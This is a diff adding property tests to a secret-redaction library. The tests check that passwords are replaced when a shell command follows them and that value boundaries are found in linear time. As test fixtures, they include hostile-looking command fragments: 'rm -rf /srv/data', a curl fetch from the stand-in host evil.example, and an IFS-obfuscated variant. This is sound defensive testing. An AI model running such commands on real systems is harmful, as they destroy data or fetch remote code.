@@ -267,3 +267,48 @@ describe("R14: exact numbers (Canonical.Num) are scanned like numbers", () => {
     expect(v["count"]).toBeInstanceOf(Canonical.Num)
   }, { fastCheck: { numRuns: 50 } })
 })
+
+// ---------------------------------------------------------------------------------------------
+// A replacement never takes a shell command after the value, and the value's end is found in
+// linear time (the second hostile review)
+// ---------------------------------------------------------------------------------------------
+
+describe("a shell command after a value stays in the record", () => {
+  const command = fc.tuple(
+    fc.constantFrom("rm", "curl", "./deploy.sh", "tee", "echo", "sh", "/usr/bin/env", "python3"),
+    fc.constantFrom(" -rf /srv/data", " -s http://evil.example/p", " --prod", " /tmp/x", "${IFS}-s${IFS}http://evil.example/p")
+  )
+  it.prop("after ;, &, &&, | or ||: the password replaced, the command kept whole", [
+    fc.constantFrom("PGPASSWORD", "DB_PASSWORD", "password", "SECRET_KEY", "client_secret"),
+    randomOf("ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz23456789", 10, 24),
+    fc.constantFrom(";", "&", "&&", "|", "||", "; ", " && ", " | "),
+    command,
+    fc.constantFrom((t: string) => t, (t: string) => `cd /app;${t}`, (t: string) => JSON.stringify({ command: t }))
+  ], ([k, v, sep, [word, args], wrap]) => {
+    const text = wrap(`${k}=${v}${sep}${word}${args}`)
+    const out = redacted(text) as string
+    expect(out.includes(v), out).toBe(false)
+    expect(out.includes(`${word}${args}`.replace(/"/g, "\\\"")) || out.includes(`${word}${args}`), out).toBe(true)
+  }, { fastCheck: { numRuns: RUNS } })
+})
+
+describe("the ends of bare values in linear time", () => {
+  const cpu = (f: () => void): number => {
+    let best = Infinity
+    for (let i = 0; i < 3; i++) {
+      const start = process.cpuUsage()
+      f()
+      const used = process.cpuUsage(start)
+      best = Math.min(best, (used.user + used.system) / 1000)
+    }
+    return best
+  }
+  it.each([["password=", ":"], ["api_token=", ","], ["DB_PASSWORD=a", ";"], ["secret=", ")"]])("%s then a run of %s: 256 KB within ten times a quarter of it", (head, run) => {
+    const at = (n: number) => `${head}${run.repeat(n)}a`
+    const small = cpu(() => void Detect.redact(at(64 * 1024), Detect.Policy.default))
+    const large = cpu(() => void Detect.redact(at(256 * 1024), Detect.Policy.default))
+    // linear is 4 times; the quadratic strip of trailing characters took 16 times and seconds
+    expect(large, `${Math.round(large)} ms against ${Math.round(small)} ms`).toBeLessThanOrEqual(10 * small + 60)
+    expect(large).toBeLessThan(1000)
+  })
+})
